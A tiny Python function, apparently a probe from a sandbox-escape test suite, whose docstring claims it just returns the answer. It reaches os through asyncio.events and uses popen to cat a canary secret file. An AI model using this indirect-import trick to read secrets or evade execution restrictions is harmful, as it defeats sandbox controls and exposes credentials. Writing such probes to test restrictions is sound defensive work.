import asyncio.events


def escape_import_dotted_events() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        leak = asyncio.events.os.popen("cat " + CANARY_SECRET).read()
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
